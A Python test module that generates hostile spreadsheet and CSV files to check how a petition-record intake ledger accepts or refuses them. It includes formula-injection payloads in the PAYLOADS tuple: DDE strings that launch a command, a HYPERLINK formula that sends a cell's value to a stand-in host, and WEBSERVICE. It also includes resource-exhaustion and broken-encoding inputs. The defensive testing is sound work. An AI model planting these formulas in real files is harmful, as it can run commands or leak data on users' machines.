"""Formulas in every column, and texts that are long, deep, torn or in no encoding."""

from collections.abc import Iterator

from good_files import HEAD, a_row, csv_bytes
from hostile_contents import NONE
from hostile_variant import ACCEPT, PARTIAL, Variant, refused
from intake.ledger.names import COLUMNS
from ledger_books import book, text

PAYLOADS = (
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"点")', "＝1+1", "\t=1+1", "\r\n=1+1", "=WEBSERVICE(1)", "﹦1+1",
)  # fmt: skip


def formulas() -> Iterator[Variant]:
    """Cells that would run, in every column of the form and in columns that it does not know."""
    head = [*COLUMNS, "分管领导", "补充"]
    for i, column in enumerate(head):
        payload = PAYLOADS[i % len(PAYLOADS)]
        good, bad = full_row(1, head), full_row(2, head) | {column: payload}
        rows = [head, list(good.values()), list(bad.values())]
        yield Variant(f"formula-xlsx-{column}", lambda r=rows: book(r), PARTIAL)
        if "\n" not in payload:
            yield Variant(
                f"formula-csv-{column}",
                lambda r=rows: text([[str(x).replace('"', '""') for x in y] for y in r]),
                PARTIAL,
            )
    yield Variant("formula-heading", lambda: book([[*HEAD, "=1+1"], [*a_row(), "x"]]), ACCEPT)
    yield Variant(
        "formula-everywhere",
        lambda: book([HEAD, ["=1+1"] * len(HEAD)]),
        refused("formula_injection", "no_rows", "rows_rejected"),
    )


def full_row(n: int, head: list[str]) -> dict[str, str]:
    return dict.fromkeys(head, "") | dict(zip(HEAD, a_row(n), strict=True))


def texts() -> Iterator[Variant]:
    """Texts that are long, deep, torn or in no encoding."""
    every = (
        NONE
        | ACCEPT
        | PARTIAL
        | refused(
            "unknown_encoding",
            "empty_file",
            "required_missing",
            "cell_too_long",
            "rows_rejected",
            "date_out_of_scope",
            "id_invalid",
        )
    )
    good = csv_bytes("utf-8")
    yield Variant("empty", lambda: b"", refused("empty_file"))
    for name, data in {
        "nul": bytes(4096),
        "spaces": b" \r\n\t" * 999,
        "bom": b"\xef\xbb\xbf",
        "bom16": b"\xff\xfe",
        "sub": b"\x1a",
    }.items():
        yield Variant(
            f"blank-{name}",
            lambda d=data: d,
            refused("empty_file", "no_header", "not_a_spreadsheet"),
        )
    yield Variant(
        "nul-in-cell",
        lambda: good.replace("小区".encode(), b"\0\0", 1),
        refused("not_a_spreadsheet"),
    )
    yield Variant("nul-in-cell-late", lambda: good + b"\0", refused("not_a_spreadsheet"))
    yield Variant(
        "huge-cell", lambda: good.replace("小区".encode(), "供".encode() * 3_000_000, 1), every
    )
    yield Variant("million-columns", lambda: b",".join([b"a"] * 1_000_000) + b"\n" + good, every)
    yield Variant("20-million-commas", lambda: good + b"," * 20_000_000, every, exhausts=True)
    yield Variant(
        "wide-header", lambda: ",".join(HEAD * 3_000).encode() + b"\n" + good, every, exhausts=True
    )
    yield Variant(
        "wide-unknown",
        lambda: ",".join([*HEAD, *map(str, range(10**5, 10**5 + 9_000))]).encode() + b"\n" + good,
        every,
        exhausts=True,
    )
    yield Variant("200000-blank-lines", lambda: good + b"\r\n" * 200_000, every)
    yield Variant("one-line-20MB", lambda: "诉求".encode() * 3_500_000, every)
    yield Variant("quote-open", lambda: good + b'"open', refused("damaged"))
    yield Variant("quote-open-first", lambda: b'"' + good, every)
    yield Variant("quotes-only", lambda: b'"' * 1_000_001, every)
    yield Variant("quotes-odd", lambda: good.replace(b'","', b'"" ,"'), every)
    yield Variant("cr-only", lambda: good.replace(b"\r\n", b"\r"), ACCEPT)
    yield Variant("lf-cr", lambda: good.replace(b"\r\n", b"\n\r"), ACCEPT)
    yield Variant(
        "controls",
        lambda: good.replace("小区".encode(), "\u202e\u0007\u001b[31m\u2028".encode()),
        ACCEPT,
    )
    yield Variant("surrogates", lambda: good.replace("小区".encode(), b"\xed\xa0\x80"), every)
    yield Variant("bad-utf8", lambda: good.replace("小区".encode(), b"\xff\xfe\xfd"), every)
    yield Variant(
        "bad-utf8-bom",
        lambda: b"\xef\xbb\xbf" + good.replace("小区".encode(), b"\xff\xfe"),
        refused("unknown_encoding"),
    )
    yield Variant("bad-gbk", lambda: csv_bytes("gbk") + b"\x81", every)
    yield Variant(
        "bad-gbk-inside",
        lambda: csv_bytes("gbk").replace("小区".encode("gbk"), b"\x81\xff\xff"),
        refused("unknown_encoding"),
    )
    yield Variant("utf16-odd", lambda: csv_bytes("utf-16") + b"\x0d", every)
    yield Variant("utf16-odd-no-bom", lambda: csv_bytes("utf-16-le")[:-1], every)
    yield Variant("utf16-surrogate", lambda: csv_bytes("utf-16") + b"\x00\xd8\x00\x00", every)
    yield Variant("utf32", lambda: csv_bytes("utf-32"), every)
    yield Variant("utf7", lambda: csv_bytes("utf-7"), every)
    yield Variant("all-delimiters", lambda: b",\t;|" * 50_000 + b"\n" + good, every)
    for column, cell in {
        "信访人姓名": "[" * 100_000, "联系电话": "1 " * 60_000, "身份证号": "6401 " * 30_000, "登记时间": "2019" + " " * 120_000 + "x",
        "交办时间": "2019年" + "1" * 150_000, "诉求内容": "（" * 190_000, "责任单位": "、" * 150_000, "人数": "9" * 150_000, "序号": "1" * 150_000,
        "是否化解": "☑是" * 50_000, "信访件编号": "号" * 150_000, "备注": "签" * 150_000, "交办层级": "中央" * 60_000, "包案领导": "（" * 150_000,
    }.items():  # fmt: skip
        rows = [[*HEAD, *[c for c in COLUMNS if c not in HEAD]]]
        rows += [
            list((full_row(n, rows[0]) | ({column: cell} if n == 2 else {})).values())
            for n in (1, 2, 3)
        ]
        yield Variant(f"long-{column}", lambda r=rows: text(r), every)
        yield Variant(
            f"many-long-{column}",
            lambda c=column, x=cell[:30_000]: text(
                [
                    HEAD + [c] * (c not in HEAD),
                    *(
                        list((full_row(n, HEAD + [c] * (c not in HEAD)) | {c: x}).values())
                        for n in range(60)
                    ),
                ]
            ),
            every,
            exhausts=True,
        )
